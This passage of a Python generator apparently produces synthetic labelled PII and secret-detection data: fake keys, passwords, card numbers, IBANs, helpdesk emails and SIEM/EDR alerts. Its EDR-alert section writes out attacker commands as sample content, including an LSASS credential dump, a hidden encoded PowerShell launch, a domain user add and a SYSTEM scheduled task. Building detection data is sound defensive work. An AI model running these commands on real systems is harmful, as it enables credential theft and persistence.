    pre, total = PEM_PREFIX[kind]
    if short and kind in ("RSA PRIVATE KEY", "PRIVATE KEY", "ENCRYPTED PRIVATE KEY"):
        total = 620
    body = base64.b64encode(pre + rbytes(rng, total - len(pre))).decode()
    w = 70 if kind == "OPENSSH PRIVATE KEY" else 64
    lines = [body[i:i + w] for i in range(0, len(body), w)]
    return f"-----BEGIN {kind}-----\n" + "\n".join(lines) + f"\n-----END {kind}-----"


def cert_pem(rng):
    body = base64.b64encode(bytes.fromhex("308203") + rbytes(rng, 560)).decode()
    return "-----BEGIN CERTIFICATE-----\n" + "\n".join(body[i:i + 64] for i in range(0, len(body), 64)) + \
        "\n-----END CERTIFICATE-----"


def ssh_pub(rng):
    if chance(rng, 0.6):
        return "ssh-ed25519 " + base64.b64encode(b"\x00\x00\x00\x0bssh-ed25519\x00\x00\x00 " + rbytes(rng, 32)).decode()
    return "ssh-rsa " + base64.b64encode(b"\x00\x00\x00\x07ssh-rsa\x00\x00\x00\x03\x01\x00\x01\x00\x00\x01\x01" + rbytes(rng, 257)).decode()


PW_WORDS = ["Summer", "Winter", "Autumn", "Spring", "Welcome", "Falcon", "Dragon", "Orange", "Purple", "Tiger",
            "Coffee", "Rocket", "Harbor", "Maple", "Sunset", "Thunder", "Galaxy", "Monkey", "Pepper", "Castle"]
PW_SYM = "!#$%&*-_+=?"


def password(rng, kind=None):
    kind = kind or rng.choice(["season", "random", "random", "leet", "phrase", "temp", "random"])
    if kind == "season":
        return f"{rng.choice(PW_WORDS)}{rng.randint(2019, 2025)}{rng.choice(PW_SYM + '!!')}"
    if kind == "leet":
        w = rng.choice(["P@ssw0rd", "Adm1n", "S3cur3", "Passw0rd", "Qwerty", "L3tM31n", "Tr0ub4dor", "Ch@ngeMe"])
        return w + rng.choice(["", "!", "123", "#1", str(rng.randint(10, 99)), "2024!"])
    if kind == "phrase":
        ws = rng.sample(["correct", "horse", "battery", "staple", "lantern", "granite", "velvet", "otter", "cobalt",
                         "meadow", "biscuit", "quartz", "ember", "willow", "harbor", "copper"], 3)
        return rng.choice(["-", "_", "."]).join(ws) + str(rng.randint(1, 99))
    if kind == "temp":
        return rng.choice([f"Temp-{dg(rng, 4)}-{rs(rng, 2, UPPER)}", f"Welcome{rng.randint(100, 999)}!",
                           f"Reset#{rs(rng, 6)}", f"{rng.choice(PW_WORDS)}-{dg(rng, 4)}"])
    if kind == "pin":
        return dg(rng, rng.choice([4, 6]))
    if kind == "passcode":
        return dg(rng, 6) if chance(rng, 0.6) else rs(rng, rng.choice([6, 8, 10]))
    if kind == "wifi":
        return rng.choice([f"{rs(rng, 4, LOWER)}-{rs(rng, 4, LOWER)}-{dg(rng, 4)}", rs(rng, 12, LOWER + DIG),
                           f"{rng.choice(PW_WORDS)}{rng.choice(PW_WORDS)}{dg(rng, 2)}"])
    if kind == "dsn":
        return rs(rng, rng.randint(12, 24), ALNUM + "-_")
    n = rng.randint(12, 20)
    s = [rng.choice(UPPER), rng.choice(LOWER), rng.choice(DIG), rng.choice(PW_SYM)] + \
        [rng.choice(ALNUM + PW_SYM) for _ in range(n - 4)]
    rng.shuffle(s)
    return "".join(s)


def generic_secret(rng, kind=None):
    """Returns (provider_label, secret)."""
    kind = kind or rng.choice(["sendgrid", "twilio", "datadog", "google", "mailgun", "webhook", "npm", "gitlab",
                               "newrelic", "azure", "okta", "bearer", "do", "shopify", "vault", "pagerduty", "hex"])
    if kind == "sendgrid":
        return "SENDGRID_API_KEY", f"SG.{rs(rng, 22, B64URL)}.{rs(rng, 43, B64URL)}"
    if kind == "twilio":
        return "TWILIO_AUTH_TOKEN", hx(rng, 32)
    if kind == "datadog":
        return "DD_API_KEY", hx(rng, 32)
    if kind == "google":
        return "GOOGLE_MAPS_API_KEY", "AIza" + rs(rng, 35, B64URL)
    if kind == "mailgun":
        return "MAILGUN_API_KEY", "key-" + hx(rng, 32)
    if kind == "webhook":
        return "WEBHOOK_SIGNING_SECRET", "whsec_" + rs(rng, 32)
    if kind == "npm":
        return "NPM_TOKEN", "npm_" + rs(rng, 36)
    if kind == "gitlab":
        return "GITLAB_TOKEN", "glpat-" + rs(rng, 20, B64URL)
    if kind == "newrelic":
        return "NEW_RELIC_API_KEY", "NRAK-" + rs(rng, 27, UPPER + DIG)
    if kind == "azure":
        return "AZURE_CLIENT_SECRET", rs(rng, 3) + "8Q~" + rs(rng, 34, ALNUM + "_.~-").rstrip(".~-") + rs(rng, 1)
    if kind == "okta":
        return "OKTA_API_TOKEN", "00" + rs(rng, 40, B64URL)
    if kind == "bearer":
        return "ACCESS_TOKEN", rs(rng, rng.choice([40, 48, 64]), B64URL)
    if kind == "do":
        return "DIGITALOCEAN_TOKEN", "dop_v1_" + hx(rng, 64)
    if kind == "shopify":
        return "SHOPIFY_ACCESS_TOKEN", "shpat_" + hx(rng, 32)
    if kind == "vault":
        return "VAULT_TOKEN", "hvs." + rs(rng, 24, B64URL)
    if kind == "pagerduty":
        return "PAGERDUTY_ROUTING_KEY", hx(rng, 32)
    return "API_KEY", hx(rng, rng.choice([32, 40, 48]))


# ---------------------------------------------------------------------------
# Checksummed / structured identifiers
# ---------------------------------------------------------------------------


def cc_num(rng, brand=None):
    brand = brand or rng.choice(["visa", "visa", "visa", "mc", "mc", "amex", "disc"])
    if brand == "visa":
        pre, ln = "4" + dg(rng, 5), 16
    elif brand == "mc":
        pre, ln = (str(rng.randint(51, 55)) if chance(rng, 0.8) else str(rng.randint(2221, 2720))), 16
    elif brand == "amex":
        pre, ln = rng.choice(["34", "37"]), 15
    else:
        pre, ln = rng.choice(["6011", "65" + dg(rng, 2)]), 16
    return luhn_complete(pre + dg(rng, ln - 1 - len(pre)))


def fmt_cc(rng, num, sep=None):
    sep = rng.choice([" ", " ", "-", ""]) if sep is None else sep
    if len(num) == 15:
        return sep.join([num[:4], num[4:10], num[10:]])
    return sep.join(num[i:i + 4] for i in range(0, 16, 4))


def cc_brand(num):
    return {"4": "Visa", "5": "Mastercard", "2": "Mastercard", "3": "American Express", "6": "Discover"}[num[0]]


def luhn_bad(rng, n=16):
    while True:
        s = rng.choice(["4", "5", "6", "3", "1", "9"]) + dg(rng, n - 1)
        if not luhn_ok(s):
            return s


IBAN_BANKS = {
    "DE": lambda r: rng_choice(r, ["10010010", "37040044", "50010517", "20041133", "70020270", "12030000",
                                  "43060967", "76026000", "30050110"]) + dg(r, 10),
    "FR": lambda r: rng_choice(r, ["30004", "30002", "20041", "10278", "30003", "17515"]) + dg(r, 5) + dg(r, 11) + dg(r, 2),
    "ES": lambda r: rng_choice(r, ["2100", "0049", "0182", "2085", "0081"]) + dg(r, 4) + dg(r, 2) + dg(r, 10),
    "IT": lambda r: rng_choice(r, UPPER) + rng_choice(r, ["03069", "02008", "05034", "03062", "01030"]) + dg(r, 5) + dg(r, 12),
    "NL": lambda r: rng_choice(r, ["ABNA", "INGB", "RABO", "TRIO", "SNSB", "KNAB", "BUNQ"]) + dg(r, 10),
    "GB": lambda r: rng_choice(r, ["NWBK", "BARC", "LOYD", "HBUK", "MIDL"]) + dg(r, 6) + dg(r, 8),
    "BE": lambda r: dg(r, 12),
    "AT": lambda r: rng_choice(r, ["12000", "20111", "32000"]) + dg(r, 11),
    "CH": lambda r: rng_choice(r, ["00762", "00230", "08390"]) + dg(r, 12),
    "PT": lambda r: rng_choice(r, ["0035", "0033", "0007"]) + dg(r, 17),
    "PL": lambda r: dg(r, 24),
    "IE": lambda r: rng_choice(r, ["AIBK", "BOFI"]) + dg(r, 6) + dg(r, 8),
    "BR": lambda r: dg(r, 8) + dg(r, 5) + dg(r, 10) + rng_choice(r, "CP") + rng_choice(r, "12"),
}


def rng_choice(r, seq):
    return r.choice(seq)


def iban(rng, cc=None):
    cc = cc or rng.choice(list(IBAN_BANKS))
    bban = IBAN_BANKS[cc](rng)
    num = "".join(str(int(ch, 36)) for ch in bban + cc + "00")
    chk = 98 - int(num) % 97
    s = f"{cc}{chk:02d}{bban}"
    assert iban_ok(s)
    return s


def fmt_iban(rng, s, grouped=None):
    if grouped is None:
        grouped = chance(rng, 0.6)
    if not grouped:
        return s
    return " ".join(s[i:i + 4] for i in range(0, len(s), 4))


def ssn(rng):
    while True:
        a = rng.randint(1, 899)
        if a != 666:
            break
    return f"{a:03d}", f"{rng.randint(1, 99):02d}", f"{rng.randint(1, 9999):04d}"


def fmt_ssn(rng, parts, sep=None):
    sep = rng.choice(["-", "-", "-", " ", ""]) if sep is None else sep
    return sep.join(parts)


def bad_ssn(rng):
    a = rng.choice(["000", "666", f"9{dg(rng, 2)}"])
    return f"{a}-{dg(rng, 2)}-{dg(rng, 4)}"


def mrn(rng):
    return rng.choice([dg(rng, 8), "MR" + dg(rng, 7), dg(rng, 3) + "-" + dg(rng, 3) + "-" + dg(rng, 3),
                       "E" + dg(rng, 9), dg(rng, 10), "M" + dg(rng, 6)])


def hpn(rng):
    return rng.choice([rs(rng, 3, UPPER) + dg(rng, 9), "W" + dg(rng, 9), dg(rng, 11), "ZGP" + dg(rng, 8) + rs(rng, 1, UPPER),
                       f"{dg(rng, 1)}{rs(rng, 2, UPPER)}{dg(rng, 1)}-{rs(rng, 3, UPPER + DIG)}-{rs(rng, 4, UPPER + DIG)}",
                       "MBR-" + dg(rng, 8)])


def acct(rng, kind="telecom"):
    if kind == "bank":
        return rng.choice([dg(rng, 10), dg(rng, 12), "00" + dg(rng, 9), dg(rng, 4) + "-" + dg(rng, 6)])
    if kind == "utility":
        return rng.choice([dg(rng, 4) + " " + dg(rng, 4) + " " + dg(rng, 2), dg(rng, 10), "UA-" + dg(rng, 8)])
    return rng.choice([dg(rng, 9), dg(rng, 10), dg(rng, 4) + " " + dg(rng, 4) + " " + dg(rng, 4), "BT" + dg(rng, 8),
                       dg(rng, 3) + "-" + dg(rng, 3) + "-" + dg(rng, 4)])


def dl_num(rng, state=None):
    state = state or rng.choice(["CA", "NY", "TX", "FL", "IL", "WA", "PA", "OH", "GA", "CO"])
    if state == "CA":
        v = rs(rng, 1, UPPER) + dg(rng, 7)
    elif state == "NY":
        v = f"{dg(rng, 3)} {dg(rng, 3)} {dg(rng, 3)}"
    elif state == "TX":
        v = dg(rng, 8)
    elif state == "FL":
        v = f"{rs(rng, 1, UPPER)}{dg(rng, 3)}-{dg(rng, 3)}-{dg(rng, 2)}-{dg(rng, 3)}-{dg(rng, 1)}"
    elif state == "IL":
        v = f"{rs(rng, 1, UPPER)}{dg(rng, 3)}-{dg(rng, 4)}-{dg(rng, 4)}"
    elif state == "WA":
        v = "WDL" + rs(rng, 9, UPPER + DIG)
    elif state == "PA":
        v = f"{dg(rng, 2)} {dg(rng, 3)} {dg(rng, 3)}"
    elif state == "OH":
        v = rs(rng, 2, UPPER) + dg(rng, 6)
    elif state == "GA":
        v = dg(rng, 9)
    else:
        v = f"{dg(rng, 2)}-{dg(rng, 3)}-{dg(rng, 4)}"
    return state, v


def dl_eu(rng, loc):
    if loc == "de":
        return rs(rng, 1, UPPER) + dg(rng, 3) + rs(rng, 1, UPPER + DIG) + rs(rng, 4, UPPER + DIG) + dg(rng, 1) + rs(rng, 1, UPPER + DIG)
    if loc == "fr":
        return dg(rng, 2) + rs(rng, 2, UPPER) + dg(rng, 5) + (dg(rng, 3) if chance(rng, 0.5) else "")
    if loc == "es":
        n = rng.randint(10000000, 99999999)
        return f"{n}{'TRWAGMYFPDXBNJZSQVHLCKE'[n % 23]}"
    if loc == "it":
        return rs(rng, 2, UPPER) + dg(rng, 7) + rs(rng, 1, UPPER)
    if loc == "nl":
        return dg(rng, 10)
    if loc == "pl":
        return f"{dg(rng, 5)}/{dg(rng, 2)}/{dg(rng, 4)}"
    if loc == "pt":
        return dg(rng, 11)
    if loc == "uk":
        return rs(rng, 5, UPPER) + dg(rng, 6) + rs(rng, 2, UPPER) + dg(rng, 1) + rs(rng, 2, UPPER)
    return dl_num(rng)[1]


# ---------------------------------------------------------------------------
# Hard negatives (never labelled)
# ---------------------------------------------------------------------------


def _uuid(rng):
    h = hx(rng, 32)
    return f"{h[:8]}-{h[8:12]}-4{h[13:16]}-{rng.choice('89ab')}{h[17:20]}-{h[20:]}"


def sha1(rng):
    return hx(rng, 40)


def sha256(rng):
    return hx(rng, 64)


def md5(rng):
    return hx(rng, 32)


def version(rng):
    return rng.choice([f"{rng.randint(1, 24)}.{rng.randint(0, 20)}.{rng.randint(0, 40)}",
                       f"v{rng.randint(0, 9)}.{rng.randint(0, 30)}.{rng.randint(0, 9)}",
                       f"{rng.randint(1, 9)}.{rng.randint(0, 9)}.{rng.randint(2200, 9999)}.{rng.randint(256, 9999)}",
                       f"{rng.randint(1, 5)}.{rng.randint(0, 12)}.{rng.randint(0, 9)}-rc{rng.randint(1, 4)}",
                       f"{rng.randint(2019, 2025)}.{rng.randint(1, 12)}.{rng.randint(0, 9)}"])


def epoch(rng):
    return str(rng.randint(1672531200, 1767225599))


def duration(rng, loc="en"):
    if loc == "de":
        return rng.choice([f"{rng.randint(2, 59)} Minuten", f"{rng.randint(2, 9)} Stunden", f"{rng.randint(1, 5)} h {rng.randint(1, 59)} min"])
    if loc == "fr":
        return rng.choice([f"{rng.randint(2, 59)} minutes", f"{rng.randint(1, 9)} heures", f"{rng.randint(1, 5)} h {rng.randint(1, 59)} min"])
    if loc == "es":
        return rng.choice([f"{rng.randint(2, 59)} minutos", f"{rng.randint(1, 9)} horas"])
    if loc == "it":
        return rng.choice([f"{rng.randint(2, 59)} minuti", f"{rng.randint(2, 9)} ore"])
    if loc == "pt":
        return rng.choice([f"{rng.randint(2, 59)} minutos", f"{rng.randint(1, 9)} horas"])
    if loc == "nl":
        return rng.choice([f"{rng.randint(2, 59)} minuten", f"{rng.randint(1, 9)} uur"])
    return rng.choice([f"{rng.randint(2, 59)} minutes", f"{rng.randint(1, 9)}h {rng.randint(1, 59)}m", f"{rng.randint(2, 72)} hours",
                       f"{rng.randint(100, 9999)} ms", f"{rng.randint(1, 59)}m{rng.randint(1, 59)}s", f"{rng.randint(2, 14)} days"])


def ticket(rng, sys_=None):
    sys_ = sys_ or rng.choice(["snow", "jira", "case", "zendesk", "chg", "req"])
    return {"snow": f"INC{dg(rng, 7)}", "jira": f"{rng.choice(['OPS', 'SEC', 'ITSD', 'NET', 'IAM', 'SRE'])}-{rng.randint(100, 19999)}",
            "case": f"CS{dg(rng, 8)}", "zendesk": f"#{rng.randint(100000, 9999999)}", "chg": f"CHG{dg(rng, 7)}",
            "req": f"RITM{dg(rng, 7)}"}[sys_]


def masked_cc(rng):
    last = dg(rng, 4)
    return rng.choice([f"**** **** **** {last}", f"XXXX-XXXX-XXXX-{last}", f"{rng.choice(['4', '5'])}{dg(rng, 5)}******{last}",
                       f"ending in {last}", f"•••• {last}"])


def masked_ssn(rng):
    return rng.choice([f"***-**-{dg(rng, 4)}", f"XXX-XX-{dg(rng, 4)}", f"xxx-xx-{dg(rng, 4)}"])


def var_ref(rng, name=None):
    name = name or rng.choice(["DB_PASSWORD", "AWS_SECRET_ACCESS_KEY", "API_TOKEN", "SLACK_BOT_TOKEN", "STRIPE_SECRET",
                               "GITHUB_TOKEN", "SMTP_PASS", "REDIS_PASSWORD", "JWT_SIGNING_KEY"])
    return rng.choice([f"${{{name}}}", f"${{{{ secrets.{name} }}}}", f"$({name})", f"{{{{ .Values.{name.lower()} }}}}",
                       f"${{{name}}}", f"var.{name.lower()}"])


def amount(rng, cur="$", hi=250000):
    v = rng.randint(5, max(6, hi)) + rng.randint(0, 99) / 100
    if cur in ("€", "EUR"):
        return rng.choice([f"{v:,.2f} €".replace(",", "X").replace(".", ",").replace("X", "."), f"EUR {v:.2f}"])
    return f"{cur}{v:,.2f}"


def routing(rng):
    # ABA routing numbers with a valid 3-7-1 checksum (still not labelled).
    while True:
        d = [rng.randint(0, 9) for _ in range(8)]
        d[0] = rng.choice([0, 1, 2, 3])
        s = 3 * (d[0] + d[3] + d[6]) + 7 * (d[1] + d[4] + d[7]) + (d[2] + d[5])
        c = (10 - s % 10) % 10
        return "".join(map(str, d)) + str(c)


def bic(rng):
    return rng.choice(["DEUTDEFFXXX", "COBADEFFXXX", "BNPAFRPPXXX", "INGBNL2A", "BARCGB22", "UNCRITMMXXX",
                       "CAIXESBBXXX", "ABNANL2A", "RABONL2U", "SOGEFRPP", "BCITITMM", "PKOPPLPW"])


def imei(rng):
    return luhn_complete(rng.choice(["35", "86", "01", "99"]) + dg(rng, 12))


def iccid(rng):
    return luhn_complete("8949" + dg(rng, 14)) if chance(rng, 0.5) else luhn_complete("8901" + dg(rng, 14))


def vin(rng):
    return rs(rng, 17, "ABCDEFGHJKLMNPRSTUVWXYZ0123456789")


def plate(rng, loc="en"):
    if loc == "de":
        return f"{rng.choice(['B', 'HH', 'M', 'K', 'F', 'S'])}-{rs(rng, 2, UPPER)} {rng.randint(1, 9999)}"
    if loc == "fr":
        return f"{rs(rng, 2, UPPER)}-{dg(rng, 3)}-{rs(rng, 2, UPPER)}"
    return f"{rs(rng, 3, UPPER)}-{dg(rng, 4)}"


def serial(rng):
    return rng.choice([rs(rng, 7, UPPER + DIG), "C02" + rs(rng, 8, UPPER + DIG), "5CG" + rs(rng, 7, UPPER + DIG),
                       "PF" + rs(rng, 6, UPPER + DIG), "SN" + dg(rng, 10)])


def cve(rng):
    return f"CVE-{rng.randint(2019, 2025)}-{rng.randint(1000, 49999)}"


def room(rng):
    return rng.choice([f"Room {rng.randint(101, 999)}", f"Bldg {rng.randint(1, 9)}, Floor {rng.randint(1, 12)}",
                       f"Rack B{rng.randint(1, 40)}", f"Seat {rng.randint(1, 40)}{rng.choice('ABCDEF')}", f"MDF-{rng.randint(1, 4)}"])


def ocr_noise(rng, rate=0.04):
    subs = {"o": "0", "O": "0", "l": "1", "I": "l", "e": "c", "S": "5", "B": "8", "rn": "m", "a": "o", ":": ";"}

    def f(s):
        out = []
        i = 0
        while i < len(s):
            c = s[i]
            if rng.random() < rate:
                if s[i:i + 2] == "rn":
                    out.append("m")
                    i += 2
                    continue
                if c in subs:
                    out.append(subs[c])
                    i += 1
                    continue
                if c == " " and rng.random() < 0.5:
                    out.append("  ")
                    i += 1
                    continue
            out.append(c)
            i += 1
        return "".join(out)

    return f


def ocr_value(rng, v, rate=0.05):
    """Mild OCR noise for PERSON/ADDRESS values (never at the edges, never whitespace)."""
    subs = {"o": "0", "l": "1", "e": "c", "i": "í", "n": "ri", "S": "5"}
    out = list(v)
    for i in range(1, len(out) - 1):
        if out[i] in subs and rng.random() < rate:
            out[i] = subs[out[i]]
    return "".join(out)


# ---------------------------------------------------------------------------
# Label shortcuts
# ---------------------------------------------------------------------------


def _mk(t):
    return lambda v: L(v, t)


PER = _mk("PERSON")
EML = _mk("EMAIL_ADDRESS")
PHN = _mk("PHONE_NUMBER")
SSN = _mk("US_SSN")
CCN = _mk("CREDIT_CARD")
IBN = _mk("IBAN_CODE")
IPA = _mk("IP_ADDRESS")
DOB = _mk("DATE_OF_BIRTH")
DTM = _mk("DATE_TIME")
LOC = _mk("LOCATION")
ADR = _mk("ADDRESS")
URL = _mk("URL")
MRN = _mk("MEDICAL_RECORD_NUMBER")
HPN = _mk("HEALTH_PLAN_NUMBER")
ACC = _mk("ACCOUNT_NUMBER")
DLN = _mk("DRIVER_LICENSE")
AKY = _mk("AWS_ACCESS_KEY")
ASK = _mk("AWS_SECRET_KEY")
GHT = _mk("GITHUB_TOKEN")
SLK = _mk("SLACK_TOKEN")
STK = _mk("STRIPE_KEY")
JWT = _mk("JWT")
PKY = _mk("PRIVATE_KEY")
PWD = _mk("PASSWORD")
GSC = _mk("GENERIC_SECRET")


def NM(rng, p, styles=("full", "full", "full", "fml", "first")):
    return PER(pname(rng, p, styles))


def future_dt(rng, base, days=(1, 30), hours=None):
    d = base + _dt.timedelta(days=rng.randint(*days))
    h = rng.choice(hours) if hours else rng.randint(7, 19)
    return _dt.datetime(d.year, d.month, d.day, h, rng.choice([0, 0, 15, 30, 30, 45]))


def dt_span(rng, dt, loc="en", with_time=None, weekday=None):
    if with_time is None:
        with_time = chance(rng, 0.5)
    if with_time:
        return DTM(fdt(rng, dt, loc, weekday))
    return DTM(fdate(rng, dt.date() if isinstance(dt, _dt.datetime) else dt, loc, weekday))


def email_headers(b, rng, frm, to, subject, dt, cc=None, to_label=True):
    """frm / to: lists of builder parts.  Date: header is never labelled."""
    b("From: ", *frm, "\n")
    b("To: ", *to, "\n")
    if cc:
        b("Cc: ", *cc, "\n")
    b("Date: ", rfc2822(dt), "\n")
    b("Subject: ", subject, "\n")


SCEN_EN = ["vpn", "mfa", "mailbox", "share", "stolen", "printer", "install", "phish", "lockout", "newphone"]


def helpdesk_body(b, rng, caller, co, dom, scen, loc="en"):
    """Free-text description for a helpdesk scenario (English)."""
    if scen == "vpn":
        b("VPN (GlobalProtect ", version(rng), ") fails with \"gateway not responding\" since this morning. ",
          "I'm working from home in ", LOC(city_of(rng)), ". whatismyip shows ", IPA(ip_pub(rng)),
          " and the laptop gets ", IPA(ip_priv(rng)), " from the home router. Rebooted twice, no change.")
    elif scen == "mfa":
        b("I got a new phone and the Authenticator app did not migrate. Please reset my MFA registration. ",
          "New mobile number is ", PHN(phone(rng, "en", True)), ". I can be reached there or on my desk line ",
          PHN(phone(rng, "en", False)), " ext. ", str(rng.randint(100, 9999)), ".")
    elif scen == "mailbox":
        other = person(rng)
        b("Outlook keeps saying the mailbox is full (49.6 GB of 50 GB). Could you enable the online archive? ",
          "Also please give ", PER(other.full), " delegate access to my calendar while I'm out for ",
          duration(rng), ".")
    elif scen == "share":
        other = person(rng)
        b("Please grant ", PER(pname(rng, other, ("full", "lf", "fml"))), " modify access to \\\\fs01\\Finance\\AP. ",
          "Approved by ", PER(person(rng).full), ". Start date is ", dt_span(rng, rdate(rng), with_time=False), ".")
    elif scen == "stolen":
        a = address(rng)
        b("My work laptop (", rng.choice(PERSON_BRANDS[:2]), ", serial ", serial(rng), ") was stolen from my car outside ",
          ADR(a.one()), " on ", DTM(fdt(rng, rdt(rng), "en")), ". Police report no. ",
          f"{rng.randint(23, 25)}-{dg(rng, 6)}", ". BitLocker was on. Please wipe it and lock my account.")
    elif scen == "printer":
        b("The ", rng.choice(["Xerox AltaLink C8145", "HP LaserJet M607", "Canon iR-ADV C5850"]), " in ", room(rng),
          " prints garbage characters. Its IP is ", IPA(ip_priv(rng)), " (hostname ", hostname(rng, "srv"),
          "). Firmware ", version(rng), ".")
    elif scen == "install":
        b("Need ", rng.choice(["Tableau Desktop", "Visio", "Wireshark", "Python", "Power BI Desktop", "SQL Server Management Studio"]),
          " ", version(rng), " installed on ", hostname(rng, "ws"), ". Manager approval from ", PER(person(rng).full),
          " is attached. Cost centre 4410.")
    elif scen == "phish":
        b("I clicked a link in an email that looked like it came from DocuSign and typed my password before I noticed. ",
          "The page was ", URL(phish_url(rng)), ". I already changed my password. Please check my account.")
    elif scen == "lockout":
        b("Account keeps locking every few minutes since I changed my password ", rng.choice(["yesterday", "this morning", "on Monday"]),
          ". Probably my old phone (IP ", IPA(ip_priv(rng)), ") still syncing mail. Username ", username(rng, caller), ".")
    else:
        b("Please port my work number ", PHN(phone(rng, "en", True)), " to the new iPhone. IMEI of the new device ",
          imei(rng), ". The old SIM (ICCID ", iccid(rng), ") can be cancelled.")


def k_helpdesk_email(rng):
    b = B()
    co, dom = company(rng)
    caller, agent = person(rng), person(rng)
    cem = email(rng, caller, dom)
    inc = ticket(rng, "snow")
    dt = rdt(rng)
    scen = rng.choice(SCEN_EN)
    subj = {"vpn": "VPN connection fails", "mfa": "Reset MFA - new phone", "mailbox": "Mailbox full",
            "share": "Access request - shared drive", "stolen": "Stolen laptop", "printer": "Printer printing garbage",
            "install": "Software installation request", "phish": "Clicked phishing link",
            "lockout": "Account locked repeatedly", "newphone": "Port number to new phone"}[scen]
    email_headers(b, rng, ["IT Service Desk <", EML(f"servicedesk@{dom}"), ">"],
                  [PER(caller.full), " <", EML(cem), ">"] if chance(rng, 0.5) else [EML(cem)],
                  f"[{inc}] {subj} - {rng.choice(['has been updated', 'assigned to you', 'awaiting your reply', 'opened on your behalf'])}", dt)
    b("\n")
    b(rng.choice(["Hello ", "Hi ", "Dear "]), PER(caller.first), ",\n\n")
    b(f"Your incident {inc} has been {rng.choice(['updated', 'assigned', 'put on hold pending your reply'])}.\n\n")
    rows = [("Number", [inc]), ("Caller", [NM(rng, caller, ("full", "lf", "fml"))]),
            ("Contact number", [PHN(phone(rng))]), ]
    if chance(rng, 0.5):
        a = address(rng)
        rows.append(("Location", [ADR(a.one())]))
    else:
        rows.append(("Location", [LOC(city_of(rng)), f" office, {room(rng)}"]))
    rows += [("Configuration item", [hostname(rng, rng.choice(["ws", "lap"])), f" ({rng.choice(PERSON_BRANDS[:2])})"]),
             ("Priority", [rng.choice(["2 - High", "3 - Moderate", "4 - Low"])]),
             ("Assignment group", [rng.choice(["Service Desk L1", "Network Support", "End User Computing", "IAM Operations"])]),
             ("Assigned to", [NM(rng, agent, ("full",))]),
             ("Opened", [ts_plain(dt)])]
    if chance(rng, 0.6):
        rows.append(("SLA due", [DTM(fdt(rng, future_dt(rng, dt, (1, 5)), "en"))]))
    w = max(len(r[0]) for r in rows) + 2
    for k, v in rows:
        b(f"{k}:".ljust(w), *v, "\n")
    b("\nDescription:\n")
    helpdesk_body(b, rng, caller, co, dom, scen)
    b("\n\nAdditional comments (Customer Visible):\n")
    t = tick(rng, dt, 600, 7200)
    b(ts_plain(t), " - ", PER(agent.full), " (Additional comments)\n")
    b(rng.choice([
        "Hi ", "Hello ", "Thanks "]), PER(caller.first), ", ",
        rng.choice(["I have reset the registration, please sign in again within the next 15 minutes.",
                    "can you reply with a screenshot of the error? We also need the output of ipconfig /all.",
                    "the request is waiting for approval from your manager.",
                    "we pushed the fix from Intune; please reboot and let us know."]), "\n")
    if chance(rng, 0.5):
        b("\nCall us on ", PHN(phone(rng, "tollfree")), " or reply to this email.\n")
    b("\nView the ticket: ", URL(url(rng, dom, "ticket")), "\n\n")
    b("Ref:MSG", dg(rng, 8), "\n")
    return b


def k_siem_alert(rng):
    b = B()
    co, dom = company(rng)
    u = person(rng)
    upn = email(rng, u, dom)
    t0 = rdt(rng)
    g1 = rng.choice(GEO)
    g2 = rng.choice([g for g in GEO if g[0] != g1[0]])
    ip1, ip2 = ip_pub(rng), ip_pub(rng)
    rule = rng.choice(["Impossible travel activity", "Sign-in from anonymous IP", "Password spray detected",
                       "Mass download by a single user", "Suspicious inbox forwarding rule", "MFA fatigue (repeated push denials)"])
    doc = {
        "id": _uuid(rng),
        "schemaVersion": version(rng),
        "alertDisplayName": rule,
        "severity": rng.choice(["High", "Medium", "Low"]),
        "status": rng.choice(["New", "InProgress"]),
        "timeGenerated": ts_iso(t0),
        "startTimeUtc": ts_iso(tick(rng, t0, -3600, -60)),
        "endTimeUtc": ts_iso(t0),
        "tenantId": _uuid(rng),
        "description": S("The user ", L(u.full, "PERSON"), " (", EML(upn), ") signed in from ", IPA(ip1), " (",
                         LOC(f"{g1[0]}, {g1[1]}"), ") and from ", IPA(ip2), " (", LOC(g2[1]), ") within ",
                         duration(rng), "."),
        "entities": [
            {"type": "account", "upn": EML(upn), "displayName": PER(pname(rng, u, ("full", "lf", "upper"))),
             "aadUserId": _uuid(rng), "sid": f"S-1-5-21-{dg(rng, 10)}-{dg(rng, 10)}-{dg(rng, 10)}-{rng.randint(1000, 99999)}"},
            {"type": "ip", "address": IPA(ip1), "location": {"city": LOC(g1[0]), "countryName": LOC(g1[1]),
                                                            "countryCode": g1[2], "asn": rng.randint(1000, 65000)}},
            {"type": "ip", "address": IPA(ip2), "location": {"city": LOC(g2[0]), "countryName": LOC(g2[1]),
                                                            "countryCode": g2[2]}},
        ],
        "extendedProperties": {"UserAgent": rng.choice([
            "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/122.0.0.0 Safari/537.36",
            "python-requests/2.31.0", "Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.17126)",
            "BAV2ROPC"]), "FailedAttempts": str(rng.randint(1, 400)), "Application": rng.choice(["Office 365 Exchange Online", "Azure Portal", "Okta Dashboard", "VPN"])},
        "alertLink": URL(f"https://security.microsoft.com/alerts/{rs(rng, 12, LOWER + DIG)}?tid={_uuid(rng)}")
        if chance(rng, 0.5) else URL(f"https://siem.{dom}/app/incidents/{rng.randint(1000, 99999)}"),
    }
    if chance(rng, 0.3):
        doc["analystComment"] = S("Called ", L(u.first, "PERSON"), " on ", PHN(phone(rng)), ", user confirms travel to ",
                                  LOC(g2[0]), ". Closing as benign positive.")
    if chance(rng, 0.5):
        b(rng.choice(["Alert payload (raw):\n", "--- webhook body ---\n", "POST /api/alerts HTTP/1.1\nContent-Type: application/json\n\n"]))
    J(b, doc, rng.choice([2, 2, 4]))
    b("\n")
    return b


def k_edr_alert(rng):
    b = B()
    co, dom = company(rng)
    u = person(rng)
    un = username(rng, u)
    host = hostname(rng, rng.choice(["ws", "lap"]))
    t0 = rdt(rng)
    tactic = rng.choice(["Credential Access", "Persistence", "Execution", "Lateral Movement", "Defense Evasion"])
    pw = password(rng)
    cmds = [
        S("cmd.exe /c net user ", rng.choice(["backupadmin", "svc_update", "helpdesk2"]), " ", PWD(pw), " /add /domain"),
        S("powershell.exe -nop -w hidden -enc ", base64.b64encode(rbytes(rng, 48)).decode()),
        S("rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\Users\\Public\\lsass.dmp full"),
        S("schtasks /create /tn \"OneDrive Update\" /tr C:\\ProgramData\\upd.exe /sc minute /mo 30 /ru SYSTEM"),
